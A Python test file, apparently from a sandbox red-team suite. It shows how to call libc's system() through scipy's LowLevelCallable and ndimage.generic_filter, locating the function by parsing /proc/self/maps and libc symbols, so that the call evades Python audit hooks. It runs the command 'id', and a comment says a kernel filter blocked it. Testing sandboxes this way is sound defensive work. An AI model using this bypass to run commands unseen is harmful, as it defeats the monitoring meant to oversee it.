# family: rt10
# reaches: process
# layer: runtime
# static: denied
# Native code called in the data profile with no ctypes and no audit event: scipy's
# _ccallback_c.get_raw_capsule makes a capsule of any address with the signature it is told, and
# LowLevelCallable hands it to C code that calls it: ndimage.generic_filter calls libc's system()
# with the filter's window, whose doubles are the bytes of a command. The hook sees nothing (no
# ctypes event: the address never passes through ctypes); the kernel filter kills the fork and the
# run is recorded as its violation. Held: nothing reached under both layers.
import struct

import numpy as np
from scipy import LowLevelCallable, ndimage
from scipy._lib import _ccallback_c


def libc_function(name):
    """The address of a libc function in this process, from /proc/self/maps and libc's symbols."""
    for line in open("/proc/self/maps"):
        f = line.split()
        if len(f) >= 6 and "/libc.so" in f[5] and int(f[2], 16) == 0:
            base, path = int(f[0].split("-")[0], 16), f[5]
            break
    data = open(path, "rb").read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
    for s in sections:
        if s[1] == 11:
            strtab = sections[s[6]][4]
            for off in range(s[4], s[4] + s[5], 24):
                st_name, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, off)
                start = strtab + st_name
                if data[start:data.index(b"\0", start)] == name:
                    return base + value


cmd = np.frombuffer(b"id >&2\0\0", dtype=np.float64)
capsule = _ccallback_c.get_raw_capsule(libc_function(b"system"), "int (double *, intptr_t, double *, void *)", None)
print("system() through scipy:", ndimage.generic_filter(cmd, LowLevelCallable(capsule), size=1))
